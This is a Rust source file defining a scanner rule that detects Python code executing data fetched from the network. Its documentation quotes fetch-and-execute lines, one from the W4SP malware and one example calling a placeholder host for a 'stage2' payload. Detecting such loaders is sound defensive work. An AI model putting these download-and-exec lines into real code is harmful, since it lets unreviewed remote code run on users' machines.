//! # HS102 remote-code-exec
//!
//! ## What it does
//!
//! Flags `exec`, `eval` or `compile` whose argument derives from a network
//! read: `urlopen(...).read()`, `requests.get(...).text`, a socket's
//! `recv()`, a DNS answer, directly or through variables. A command line
//! received from the network and handed to a shell or a process (a
//! backdoor's command loop) counts the same. Remote input also means what a
//! Flask/Bottle/Quart request carries (`request.args`, `request.form`, …) and
//! the text of a message a chat bot's handler receives; reads hidden in the
//! methods of a class in the same file are followed.
//!
//! ## Why it matters
//!
//! Running code fetched at run time is how a small, clean-looking stub turns
//! into anything its author wants: W4SP's temp file runs
//! `exec(urlopen('http://<ip>/inject/<token>').read())`, the Code of Conduct
//! backdoor executes what its C2 answers, and Slow Pisces' loader runs the
//! `ret == 2` payload in memory. The code that finally runs is never in the
//! package, so nothing else can review it.
//!
//! ## Example
//!
//! ```python
//! import urllib.request
//! exec(urllib.request.urlopen("https://example.invalid/stage2").read())
//! ```
//!
//! ## False positives
//!
//! Remote-notebook and plugin tools that deliberately run downloaded code;
//! they are rare in packages and worth a look anyway.
//!
//! ## References
//!
//! - THREATS.md H8, H9; MITRE ATT&CK T1105 (Ingress Tool Transfer), T1059.006
//! - Phylum and Checkmarx W4SP write-ups (2022)

use crate::python::{Module, Taint, names, taint::taint};
use crate::report::Severity;
use crate::rules::{Checker, Meta, Rule};

pub struct RemoteCodeExec;

static META: Meta = crate::rule_meta!("HS102", "remote-code-exec", Critical, High);

impl Rule for RemoteCodeExec {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check(&self, m: &Module<'_>, checker: &mut Checker<'_>) {
        for call in &m.calls {
            let Some((arg, sink)) = names::run_sink(m, call) else {
                continue;
            };
            if names::is_code_exec(call.qname.as_deref().unwrap_or(""))
                && names::is_code_template(m, arg)
            {
                continue;
            }
            let t = taint(m, arg, call.scope);
            if !t.has(Taint::Network) && !t.has(Taint::Socket) {
                continue;
            }
            checker
                .report(
                    &META,
                    call.node,
                    Severity::Critical,
                    m.context(call.scope),
                    format!(
                        "data read from the network is passed to {}",
                        names::sink_label(sink)
                    ),
                )
                .with_chain(&t.layers());
        }
    }
}
